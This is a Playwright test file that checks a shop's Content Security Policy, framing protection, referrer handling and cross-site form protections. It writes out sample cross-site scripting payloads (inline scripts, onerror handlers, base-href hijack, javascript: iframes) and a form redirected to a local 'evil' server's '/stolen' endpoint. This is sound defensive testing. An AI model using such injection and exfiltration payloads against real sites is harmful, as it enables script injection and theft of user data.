import { createServer, type Server } from "node:http";
import type { Browser } from "playwright";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { setting } from "../setup/setting";
import { browserOf, openBrowser } from "./support/browser";
import { addToBasket, buy, type Person, signUp } from "./support/people";

let browser: Browser;
let person: Person;
let evil: Server;
let evilUrl: string;
const shop = (path: string) => `${setting("SHOP_URL")}${path}`;
const heard: string[] = [];

beforeAll(async () => {
  browser = await openBrowser();
  person = await signUp();
  await buy(person);
  await addToBasket(person);
  evil = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.setHeader("content-type", "text/html");
    response.end(evilPage());
  });
  await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
  evilUrl = `http://127.0.0.1:${(evil.address() as { port: number }).port}`;
}, 60_000);

afterAll(async () => {
  await browser.close();
  evil.close();
});

function evilPage(): string {
  return `<a href="${shop("/account")}">in</a><iframe src="${shop("/account")}"></iframe>
    <form method="post" action="${shop("/sign-out")}"><button>out</button></form>`;
}

/** What an injection would look like: each of these is a way to run something or to carry something away. */
function slippedIn(): string {
  return `<script>window.name = "ran"</script><script nonce="AAAAAAAAAAAAAAAAAAAAAA==">window.name = "ran"</script>
    <script src="${evilUrl}/slipped.js"></script><img src="x" onerror="window.name = 'ran'">
    <img src="${evilUrl}/slipped.png"><base href="${evilUrl}/"><object data="${evilUrl}/slipped.html"></object>
    <iframe src="${evilUrl}/slipped.html"></iframe><link rel="stylesheet" href="${evilUrl}/slipped.css">
    <iframe src="javascript:parent.name = 'ran'"></iframe>`;
}

describe("48. Every page has a policy with a nonce of its own, and Chromium enforces it", () => {
  test("markup that was slipped into a page runs nothing", async () => {
    const { page, violations, context } = await browserOf(browser, person);
    await context.route(shop("/account"), async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace("<body>", `<body>${slippedIn()}`);
      await route.fulfill({ response, body });
    });
    await page.goto(shop("/account"));
    await expect.poll(() => violations.length).toBeGreaterThanOrEqual(6);
    expect(await page.evaluate(() => window.name)).toBe("");
    expect(await page.evaluate(() => document.baseURI)).toBe(shop("/account"));
    expect(heard.filter((line) => line.includes("slipped"))).toEqual([]);
    await context.close();
  });

  test("no form of ours can be sent to another site", async () => {
    const { page, violations, context } = await browserOf(browser, person);
    await page.goto(shop("/sign-in"));
    await page.goto(shop("/account/details"));
    await page.evaluate((url) => {
      const form = document.querySelector<HTMLFormElement>("main form");
      form?.setAttribute("action", url);
      form?.setAttribute("method", "post");
      HTMLFormElement.prototype.submit.call(form);
    }, `${evilUrl}/stolen`);
    await expect.poll(() => violations.join()).toContain("form-action");
    expect(heard).not.toContain("POST /stolen");
    await context.close();
  });

  test("a page that another site frames shows nothing", async () => {
    const { page, context } = await browserOf(browser, person);
    await page.goto(evilUrl);
    await expect.poll(() => page.frames().length).toBe(2);
    await page
      .frames()[1]
      ?.waitForLoadState()
      .catch(() => {});
    expect(
      await page
        .frames()[1]
        ?.content()
        .catch(() => ""),
    ).not.toContain(person.email);
    await context.close();
  });
});

describe.each([
  ["with scripts", true],
  ["without", false],
])("48. The 303 to Dojo after the pay form gets through, %s", (_, javaScriptEnabled) => {
  test("38. and Dojo's page is not told where its visitor came from", async () => {
    const { page, violations, context } = await browserOf(browser, person, { javaScriptEnabled });
    const referers: (string | undefined)[] = [];
    context.on("request", async (request) => {
      if (request.isNavigationRequest() && request.url().startsWith(setting("EMULATOR_URL")))
        referers.push((await request.allHeaders()).referer);
    });
    await page.goto(shop("/checkout"));
    await page.getByRole("button", { name: /^Pay £/ }).click();
    await page.waitForURL(`${setting("EMULATOR_URL")}/checkout/**`);
    expect(referers).toEqual([undefined]);
    expect(violations).toEqual([]);
    await context.close();
  });
});

describe("19. The session cookie is sent along from Dojo back to the shop, and with no other site's form", () => {
  test("the shopper who turns back at Dojo is still signed in", async () => {
    const { page, context } = await browserOf(browser, person);
    await page.goto(shop("/checkout"));
    await page.getByRole("button", { name: /^Pay £/ }).click();
    await page.getByRole("link", { name: "Cancel and return" }).click();
    await page.waitForURL(shop("/checkout/return?**"));
    expect(await page.getByRole("link", { name: "Account" }).count()).toBe(1);
    await context.close();
  });

  test("a link from another site opens the account, a form of it signs nobody out", async () => {
    const { page, context } = await browserOf(browser, person);
    await page.goto(evilUrl);
    await page.getByRole("button", { name: "out" }).click();
    await page.waitForURL(shop("/sign-out"));
    expect(await page.textContent("body")).toContain("did not come from the shop's own pages");
    await page.goto(evilUrl);
    await page.getByRole("link", { name: "in" }).click();
    await page.waitForURL(shop("/account"));
    expect(await page.content()).toContain(person.email);
    await context.close();
  });
});
